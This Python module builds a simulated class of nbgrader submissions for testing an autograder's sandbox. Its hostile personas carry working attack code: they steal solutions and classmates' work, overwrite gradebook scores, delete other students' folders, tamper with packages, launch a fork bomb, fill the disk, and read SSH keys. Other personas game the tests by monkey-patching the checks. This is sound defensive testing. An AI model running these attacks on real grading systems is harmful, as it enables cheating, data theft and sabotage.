"""A simulated class, generated from the source notebooks and the mistake catalogues.

``make_class(course)`` writes ``submitted/<student>/<assignment>/`` for every assignment as
``nbgrader collect`` would, with a timestamp and a submission secret per submission and a due
date per assignment.
Students (one persona each, the same in every assignment):

* ``solution-*``: the instructor solution; ``alternative-*``: correct answers written
  differently (catalogue CORRECT entries); ``mistake-*``: one typical mistake each (catalogue
  WRONG entries); ``blank-*``: the untouched release; ``partial-*``: the first half of the
  answers; ``late-*``: the solution, handed in after the due date;
* hostile students, whose trick is applied in :data:`HOSTILE_ASSIGNMENT` (and who hand in the
  solution elsewhere): see :data:`HOSTILE`. Those of :data:`SANDBOX_ATTACKS` attack the grading
  machine itself (read the solution or classmates' work, write the gradebook, leave processes
  behind...); they are not in :data:`PERSONAS` (``tests/test_sandbox_attacks.py`` grades them).
"""
import hashlib
import textwrap

import nbformat

from grading import catalogue, cells
from grading.course import Course, repository

DUE = "2026-11-20 23:59:00 UTC"
ON_TIME = "2026-11-20 18:00:00 UTC"
LATE = "2026-11-22 09:30:00 UTC"
HOSTILE_ASSIGNMENT = "04_layer_classes"

# What each hostile student appends to (or does with) the first answer cell, and the grade the
# tests expect: "cell0" = 0 on the tests of the first answer cell, full points elsewhere.
HOSTILE = {
    "infinite-loop": ("append", "while True:\n    pass", "cell0"),
    "sigint-ignoring-loop": ("append", "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                             "while True:\n    pass", "cell0"),
    "sys-exit": ("append", "import sys\nsys.exit(0)", "full"),
    "os-exit": ("append", "import os\nos._exit(0)", "cell0"),
    "kill-9": ("append", "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)", "cell0"),
    "alloc-20gb": ("append", "import numpy\nhuge = numpy.ones(20 * 2**30 // 8)", "full"),
    "patch-numpy": ("wrong+append", "import numpy\nnumpy.allclose = lambda *a, **k: True\n"
                    "numpy.max = lambda *a, **k: 0.0\nnumpy.testing.assert_allclose = lambda *a, **k: None",
                    "cell0"),
    "patch-gradient-check": ("wrong+append", "import common.gradient_check as gc\n"
                             "gc.check_layer = lambda *a, **k: None\ngc.rel_error = lambda *a: 0.0\n"
                             "gc.check_gradient = lambda *a, **k: None", "cell0"),
    "patch-builtins": ("wrong+append", "import builtins\nbuiltins.max = lambda *a, **k: 0.0\n"
                       "builtins.isinstance = lambda *a: True", "cell0"),
    "patch-test-helpers": ("wrong+append", "check_layer = lambda *a, **k: None\n"
                           "check_close = lambda *a, **k: None\ncheck_gradient = lambda *a, **k: None",
                           "cell0"),
    "edited-tests": ("edit-tests", None, "cell0"),
    "deleted-tests": ("delete-tests", None, "full"),
    "reordered-cells": ("reorder", None, "full"),
    "duplicated-tests": ("duplicate-tests", None, "full"),
    "changed-metadata": ("metadata", None, "full"),
    "invalid-json": ("invalid-json", None, "zero"),
    "renamed-notebook": ("rename", None, "full"),
    "missing-notebook-extra-file": ("missing", None, "zero"),
    "huge-output": ("huge-output", None, "full"),
    # switches the in-kernel guard off (its restore name found by prefix), then patches the
    # comparisons, in words no static check looks for: the hidden tests still catch part of the
    # wrong answer, and the guard's audit flags the submission for review
    "guard-off": ("wrong+append",
                  "for _k in [k for k in globals() if k.startswith('_gr' + 'ader_rest' + 'ore_')]:\n"
                  "    globals()[_k] = lambda: None\n"
                  "_np = __import__('num' + 'py')\n"
                  "setattr(_np, 'allclose', lambda *a, **k: True)\n"
                  "setattr(_np.testing, 'assert_allclose', lambda *a, **k: None)\n"
                  "_gc = __import__('common.gradient_' + 'check', fromlist=['x'])\n"
                  "for _f in ('check_layer', 'check_gradient'):\n"
                  "    setattr(_gc, _f, lambda *a, **k: None)\n"
                  "setattr(_gc, 'rel_error', lambda *a, **k: 0.0)", "cell0"),
}


# ------------------------------------------------------------------ attacks on the grader
# Code a hostile student appends to a WRONG first answer. Each attack catches its own errors and
# ends with one line ``ATTACK-REPORT {json}`` in the cell's output: what it found and what it
# ``achieved`` (empty when the sandbox stopped it). Had it worked, the student would gain points
# (a read solution is exec'd, so the wrong answer becomes right) or damage others.
# @COURSE@, @REPO@, @PORT@, @FIRST@, @ME@ are filled in when the class is made (:func:`_fill`).
ATTACK_MARK = "4242"  # in the arguments of every process an attack leaves behind, and its files
SURVIVOR_MARKS = (f"9871.{ATTACK_MARK}", f"9872.{ATTACK_MARK}", f"9873.{ATTACK_MARK}",
                  f"9874.{ATTACK_MARK}")
BIG_FILE = f"attack-9875-{ATTACK_MARK}.bin"
PACKAGE_MARK = f"dl2-attack-9876-{ATTACK_MARK}"
ESCAPE_FILE = f"ESCAPED-9877-{ATTACK_MARK}"

_PRELUDE = """\
import glob as _glob, json as _json, os as _os, sys as _sys
_COURSE, _REPO, _ME, _FIRST, _PORT = @COURSE@, @REPO@, @ME@, @FIRST@, @PORT@
def _ancestors():
    folder, out = _os.path.abspath(_os.getcwd()), []
    while True:
        out.append(folder)
        if _os.path.dirname(folder) == folder:
            break
        folder = _os.path.dirname(folder)
    return list(dict.fromkeys(out + [p for p in (_COURSE, _REPO) if p]))
def _report(attack, **what):
    print("ATTACK-REPORT " + _json.dumps(dict(attack=attack, **what), default=str), flush=True)
def _steal(patterns, take=lambda path: True):
    found, used = [], []
    for pattern in patterns:
        for path in sorted(_glob.glob(pattern)):
            if _ME in path or path in found:
                continue
            found.append(path)
            try:
                with open(path) as f:
                    nb = _json.load(f)
                for c in nb["cells"]:
                    if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == _FIRST and take(path):
                        src = c["source"] if isinstance(c["source"], str) else "".join(c["source"])
                        exec(src, globals())
                        used.append(path)
            except Exception:
                pass
    return found, used
"""

_ATTACKS = {
    # the instructor's solution: source/<assignment>/ of the course, the repository, or the
    # sandbox course of the batch (walking up from the notebook's folder)
    "read-solution": """
        found, used = _steal([_os.path.join(d, "source", "@ASSIGNMENT@", "*.ipynb")
                              for d in _ancestors()])
        _report("read-solution", found=found, achieved=used)
    """,
    # a classmate's submission or graded notebook (exec'd when it is a good classmate's)
    "read-classmate": """
        found, used = _steal([_os.path.join(d, step, "*", "@ASSIGNMENT@", "*.ipynb")
                              for d in _ancestors() for step in ("submitted", "autograded")],
                             take=lambda path: "solution-" in path)
        _report("read-classmate", found=found, achieved=used)
    """,
    "write-gradebook": """
        import sqlite3 as _sqlite3
        found, written = [], []
        for d in _ancestors():
            for db in _glob.glob(_os.path.join(d, "*.db")):
                found.append(db)
                try:
                    con = _sqlite3.connect(db, timeout=10)
                    con.execute("UPDATE grade SET manual_score = 1000, extra_credit = 1000")
                    con.commit()
                    con.close()
                    written.append(db)
                except Exception:
                    pass
        _report("write-gradebook", found=found, achieved=written)
    """,
    "delete-classmates": """
        import shutil as _shutil
        found, deleted = [], []
        for d in _ancestors():
            for step in ("submitted", "autograded", "feedback"):
                for folder in _glob.glob(_os.path.join(d, step, "*")):
                    if _ME in folder or not _os.path.isdir(folder):
                        continue
                    found.append(folder)
                    try:
                        _shutil.rmtree(folder)
                        deleted.append(folder)
                    except Exception:
                        pass
        _report("delete-classmates", found=found, achieved=deleted)
    """,
    # every later student's rel_error says 0, and the grading guard no longer restores anything
    "modify-course-package": """
        import common.gradient_check as _gc
        import grading.kernel_guard as _kg
        lines = {_gc.__file__: "rel_error = lambda *a, **k: 0.0  # @PACKAGE_MARK@\\n",
                 _kg.__file__: "install = lambda namespace: (lambda: None)  # @PACKAGE_MARK@\\n",
                 _os.path.join(_os.path.dirname(_kg.__file__), "attack_9876.py"):
                     "# @PACKAGE_MARK@\\n"}
        written, errors = [], {}
        for path, line in lines.items():
            try:
                with open(path, "a") as f:
                    f.write("\\n" + line)
                written.append(path)
            except Exception as e:
                errors[path] = repr(e)
        _report("modify-course-package", errors=errors, achieved=written)
    """,
    # processes that outlive the notebook: a new session, a double-forked daemon (sleep, and
    # tail following /dev/null)
    "survivors": """
        import subprocess as _sp, time as _time
        errors = []
        try:
            _sp.Popen(["sleep", "@MARK1@"], start_new_session=True, stdin=_sp.DEVNULL,
                      stdout=_sp.DEVNULL, stderr=_sp.DEVNULL)
        except Exception as e:
            errors.append(repr(e))
        for argv in (["sleep", "@MARK2@"],
                     ["/usr/bin/tail", "-f", "/dev/null", "@MARK3@"]):
            try:
                pid = _os.fork()
                if pid == 0:
                    try:
                        _os.setsid()
                        if _os.fork() == 0:
                            _os.execv(argv[0] if _os.path.isabs(argv[0]) else "/usr/bin/sleep", argv)
                    finally:
                        _os._exit(0)
                _os.waitpid(pid, 0)
            except Exception as e:
                errors.append(repr(e))
        _time.sleep(1)
        running = []
        for p in _os.listdir("/proc"):
            try:
                with open(f"/proc/{p}/cmdline", "rb") as f:
                    cmd = f.read().replace(b"\\0", b" ").decode()
            except Exception:
                continue
            if "987" in cmd and ".@ATTACK_MARK@" in cmd:
                running.append(cmd.strip())
        _report("survivors", running=sorted(running), errors=errors, achieved=[])
    """,
    # a fork bomb (bash: it retries a failed fork, so it keeps every process it got), for 2.5 s
    # (the cell must end in time); then can the kernel itself still fork?
    "fork-bomb": """
        import subprocess as _sp, time as _time
        with open("/tmp/bomb.sh", "w") as script:
            script.write("while :; do /usr/bin/sleep @MARK4@ & done\\n")
        bomb = _sp.Popen(["/usr/bin/bash", "/tmp/bomb.sh"],
                         stdin=_sp.DEVNULL, stdout=_sp.DEVNULL, stderr=_sp.DEVNULL)
        _time.sleep(2.5)
        children = sum(name.isdigit() for name in _os.listdir("/proc"))
        failed = None
        try:
            pid = _os.fork()
            if pid == 0:
                _os._exit(0)
            _os.waitpid(pid, 0)
        except OSError as e:
            failed = repr(e)
        bomb.kill()
        _report("fork-bomb", children=children, fork_failed=failed,
                achieved=[] if failed else [f"{children} processes, fork never failed"])
    """,
    # 10 GB in the notebook's folder and in /tmp (RLIMIT_FSIZE would send SIGXFSZ: ignored, so
    # the write fails with EFBIG instead)
    "big-file": """
        import signal as _signal
        _signal.signal(_signal.SIGXFSZ, _signal.SIG_IGN)
        chunk, written, errors = bytes(64 * 2 ** 20), {}, {}
        for folder in (_os.getcwd(), "/tmp"):
            path = _os.path.join(folder, "@BIG_FILE@")
            written[path] = 0
            try:
                with open(path, "wb", buffering=0) as f:
                    while written[path] < 10 * 10 ** 9:
                        written[path] += f.write(chunk)
            except OSError as e:
                errors[path] = repr(e)
            try:
                written[path] = _os.path.getsize(path)
                _os.remove(path)
            except OSError:
                pass
        _report("big-file", written=written, errors=errors,
                achieved=[p for p, n in written.items() if n >= 10 * 10 ** 9])
    """,
    "network": """
        import socket as _socket
        targets = [("1.1.1.1", 80)] + ([("127.0.0.1", _PORT)] if _PORT else [])
        connected, errors = [], {}
        for host, port in targets:
            try:
                with _socket.create_connection((host, port), timeout=2) as s:
                    s.sendall(b"ATTACK @ME@\\n")
                connected.append(f"{host}:{port}")
            except OSError as e:
                errors[f"{host}:{port}"] = repr(e)
        _report("network", errors=errors, achieved=connected)
    """,
    # the instructor's home (and its keys), printed into the student's feedback. What a home
    # shows only to reach what the sandbox binds (the Python install, the virtualenv, the course
    # packages, the notebook's own folder) and the sandbox's own /tmp are no achievement
    "home": """
        import pwd as _pwd
        import common as _common, grading as _grading
        homes = set()
        for get in (lambda: _pwd.getpwuid(_os.getuid()).pw_dir, lambda: "/root",
                    lambda: _os.path.expanduser("~"), lambda: "/home"):
            try:
                homes.add(get())
            except Exception:
                pass
        own = [_sys.prefix, _sys.base_prefix, _os.path.realpath(_sys.executable), _os.getcwd(),
               *_common.__path__, *_grading.__path__]
        listed, keys, achieved = {}, {}, []
        for home in sorted(homes):
            try:
                listed[home] = sorted(_os.listdir(home))[:50]
            except OSError:
                continue
            if home != "/tmp":
                achieved += [_os.path.join(home, n) for n in listed[home]
                             if not any((p + "/").startswith(_os.path.join(home, n) + "/") for p in own)]
            for key in _glob.glob(_os.path.join(home, ".ssh", "*")) + _glob.glob(_os.path.join(home, "*", ".ssh", "*")):
                try:
                    with open(key, "rb") as f:
                        keys[key] = f.read(200)
                    achieved.append(key)
                except OSError:
                    pass
        _report("home", homes=sorted(homes), listed=listed, keys=keys, achieved=achieved)
    """,
    # the kernel dies every time: the grader then looks for the cell that kills it with
    # grading.find_fatal, in a kernel of its own. If that kernel is not sandboxed, the attack
    # reaches the course there (the gradebook, a file in the course folder; never the
    # repository's own folder, which would stay marked)
    "probe-escape": """
        import sqlite3 as _sqlite3
        for d in _ancestors():
            if d == _REPO:
                continue
            if _os.path.isfile(_os.path.join(d, "nbgrader_config.py")):
                try:
                    with open(_os.path.join(d, "@ESCAPE_FILE@"), "w") as f:
                        f.write(_os.getcwd())
                except Exception:
                    pass
            for db in _glob.glob(_os.path.join(d, "*.db")):
                try:
                    con = _sqlite3.connect(db, timeout=10)
                    con.execute("UPDATE grade SET manual_score = 1000, extra_credit = 1000")
                    con.commit()
                    con.close()
                except Exception:
                    pass
        _report("probe-escape", achieved=[])
        _sys.stdout.flush()
        _os._exit(1)
    """,
}


def _attack(name):
    """The code of one attack: the prelude, then its body, any error it did not expect caught."""
    body = textwrap.dedent(_ATTACKS[name]).strip()
    for token, value in (("@ASSIGNMENT@", HOSTILE_ASSIGNMENT), ("@BIG_FILE@", BIG_FILE),
                         ("@PACKAGE_MARK@", PACKAGE_MARK), ("@ESCAPE_FILE@", ESCAPE_FILE),
                         ("@ATTACK_MARK@", ATTACK_MARK),
                         *((f"@MARK{i}@", m) for i, m in enumerate(SURVIVOR_MARKS, 1))):
        body = body.replace(token, value)
    return (_PRELUDE + "try:\n" + textwrap.indent(body, "    ") + "\nexcept BaseException as _error:\n"
            f"    _report({name!r}, error=repr(_error), achieved=['the attack code itself failed'])\n")


SANDBOX_ATTACKS = list(_ATTACKS)
HOSTILE.update({name: ("wrong+append", _attack(name), "cell0") for name in SANDBOX_ATTACKS})
# the same wrong first answer and no attack: what every attacker's grade must equal
HOSTILE["no-attack"] = ("wrong+append", "pass", "cell0")

PERSONAS = ([f"solution-{i}" for i in range(1, 4)] + [f"alternative-{i}" for i in range(1, 4)]
            + [f"mistake-{i}" for i in range(1, 6)] + [f"blank-{i}" for i in range(1, 3)]
            + [f"partial-{i}" for i in range(1, 3)] + [f"late-{i}" for i in range(1, 3)]
            + [f"hostile-{name}" for name in HOSTILE
               if name not in SANDBOX_ATTACKS and name != "no-attack"])


def _answers(assignment, name):
    repo = repository()
    release_nb = repo.release_notebook(assignment, name)
    return release_nb, cells.solution_sources(repo.source_notebook(assignment, name))


def _first_wrong(entries, cell, solutions):
    for e in entries:
        if e.kind == "wrong" and e.cell == cell:
            return e.answer(solutions)
    return solutions[cell] + "\n" + "raise ValueError('a typical mistake')"


def persona_notebooks(persona, assignment, index=0, *, course_root=None, port=0):
    """``{file name: notebook or raw text}`` for one student and assignment; the attacks of
    :data:`SANDBOX_ATTACKS` look for the course at ``course_root`` (and walking up from their
    notebook) and try to reach a local TCP ``port`` (0: none)."""
    entries = catalogue.load(assignment)
    out = {}
    for name in repository().notebook_names(assignment):
        release_nb, solutions = _answers(assignment, name)
        answer_ids = list(solutions)
        answers = dict(solutions)
        kind = persona.rsplit("-", 1)[0] if not persona.startswith("hostile-") else "hostile"
        k = int(persona.rsplit("-", 1)[1]) if kind != "hostile" else 0
        if kind == "blank":
            out[name] = release_nb
            continue
        if kind == "partial":
            answers = {c: solutions[c] for c in answer_ids[: max(1, len(answer_ids) // 2)]}
        elif kind == "alternative":
            for cell in answer_ids:
                alts = [e for e in entries if e.kind == "correct" and e.cell == cell]
                if alts:
                    answers[cell] = alts[(k - 1) % len(alts)].answer(solutions)
        elif kind == "mistake":
            wrong = [e for e in entries if e.kind == "wrong" and e.cell in solutions]
            if wrong:
                e = wrong[(k - 1 + 3 * index) % len(wrong)]
                answers[e.cell] = e.answer(solutions)
        if kind != "hostile" or assignment != HOSTILE_ASSIGNMENT:
            out[name] = cells.fill_answers(release_nb, answers)
            continue
        context = {"@COURSE@": repr(str(course_root) if course_root else ""),
                   "@REPO@": repr(str(repository().root)), "@PORT@": repr(int(port)),
                   "@ME@": repr(persona)}
        out.update(_hostile(persona[len("hostile-"):], name, release_nb, solutions, entries,
                            context))
    return out


def _hostile(trick, name, release_nb, solutions, entries, context=None):
    action, payload, _ = HOSTILE[trick]
    first = next(iter(solutions))
    if payload:
        for token, value in {**(context or {}), "@FIRST@": repr(first)}.items():
            payload = payload.replace(token, value)
    answers = dict(solutions)
    if action == "append":
        answers[first] = solutions[first] + "\n" + payload
    elif action == "wrong+append":
        answers[first] = _first_wrong(entries, first, solutions) + "\n" + payload
    elif action == "edit-tests":
        answers[first] = _first_wrong(entries, first, solutions)
    nb = cells.fill_answers(release_nb, answers)
    tests = [c for c in nb.cells if cells.is_test(c)]
    if action == "edit-tests":
        for c in tests:
            c.source = "print('all tests passed')"
    elif action == "delete-tests":
        nb.cells = [c for c in nb.cells if c not in tests]
    elif action == "reorder":
        nb.cells = nb.cells[::-1]
    elif action == "duplicate-tests":
        doubled = []
        for c in nb.cells:
            doubled.append(c)
            if c in tests:
                doubled.append(cells.copy(c))
        nb.cells = doubled
    elif action == "metadata":
        for i, c in enumerate(nb.cells):
            c.id = f"renamed-{i}"
            if cells.is_test(c):
                cells.meta(c).update(points=1000, locked=False)
    elif action == "invalid-json":
        return {name: nbformat.writes(nb)[: 5000]}
    elif action == "rename":
        return {"my_solution (1).ipynb": nb}
    elif action == "missing":
        return {"answers.py": "# I wrote my answers here instead\n"}
    elif action == "huge-output":
        first_code = next(c for c in nb.cells if c.cell_type == "code")
        first_code.outputs = [nbformat.v4.new_output("stream", name="stdout",
                                                     text="x" * (200 * 2 ** 20))]
    return {name: nb}


def make_class(root, assignment_names=None, personas=PERSONAS, *, port=0, release=True):
    """Create a course folder at ``root`` with its sources, due dates and every simulated
    submission; returns the :class:`~grading.course.Course`. ``port``: a local TCP port the
    ``network`` attack tries to reach (0: none). ``release=False`` leaves the releases to
    ``grade-class``, which generates them anyway (the demo)."""
    names = assignment_names or repository().assignments()
    course = Course.create(root, names)
    for assignment in names if release else []:
        course.generate_release(assignment)
    with course.gradebook() as gb:
        for assignment in names:
            gb.update_or_create_assignment(assignment, duedate=DUE)
    for index, assignment in enumerate(names):
        for persona in personas:
            stamp = LATE if persona.startswith("late-") else ON_TIME
            secret = hashlib.sha256(f"{persona}/{assignment}".encode()).hexdigest()
            notebooks = persona_notebooks(persona, assignment, index, course_root=course.root,
                                          port=port)
            course.submit(persona, assignment, notebooks,
                          timestamp=stamp, secret=secret)
    return course


def expected(persona, assignment):
    """What the grade should be: "full", "zero", "cell0" (first answer's tests lose points),
    "partial" or "mistake"."""
    if persona.startswith("hostile-"):
        return HOSTILE[persona[len("hostile-"):]][2] if assignment == HOSTILE_ASSIGNMENT else "full"
    kind = persona.rsplit("-", 1)[0]
    return {"solution": "full", "alternative": "full", "late": "full", "blank": "zero",
            "partial": "partial", "mistake": "mistake"}[kind]
